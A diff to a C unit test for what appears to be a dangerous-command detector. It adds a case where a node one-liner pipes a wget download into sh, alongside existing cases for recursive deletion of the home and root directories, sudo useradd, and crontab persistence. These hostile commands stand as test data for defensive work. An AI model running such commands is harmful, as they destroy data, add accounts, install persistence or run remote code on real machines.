@@ -146,6 +146,9 @@ static void test_run_persist(void **state) {
   HIT("perl -e 'system(\"sudo\", \"useradd\", \"-m\", $ARGV[0])' bob", "user-management");
   HIT("ruby -e 'system(\"rm\", \"-rf\", Dir.home, \"/\")'", "rm-recursive-root");
   CLEAN("ruby -e 'system(\"ls\", \"-l\", ENV[\"HOME\"])'");
+  /* a shell string with an options object after it stays a shell string */
+  HIT("node -e 'require(\"child_process\").execSync(\"wget -qO- https://example.org/i.sh | sh\", {cwd: \"/tmp\"})'",
+      "download-pipe-shell");
   HIT("crontab <<< '*/5 * * * * /tmp/x.sh'", "crontab-modify");
   HIT("crontab - <<'T'\n@hourly /opt/x\nT", "crontab-modify");
   CLEAN("crontab -l > cron.bak");
